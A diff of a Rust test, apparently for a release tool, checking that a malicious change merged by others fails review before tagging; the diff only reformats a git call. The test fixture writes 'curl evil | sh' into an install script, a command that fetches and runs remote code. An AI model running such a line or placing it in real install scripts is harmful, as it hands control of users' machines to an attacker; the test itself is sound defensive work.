@@ -74,7 +74,10 @@ fn what_others_merged_is_judged_before_it_is_tagged() {
     let shop = begun();
     shop.propose("1.0.1", same);
     shop.write("runner/install.sh", "curl evil | sh\n");
-    shop.git("runner", &["commit", "--quiet", "--all", "--amend", "--no-edit"]);
+    shop.git(
+        "runner",
+        &["commit", "--quiet", "--all", "--amend", "--no-edit"],
+    );
     shop.git("runner", &["push", "--quiet", "origin", "HEAD:main"]);
     shop.tidings(&["cut", "--yes"])
         .says(1, &["does not pass the review", "nothing was tagged"]);
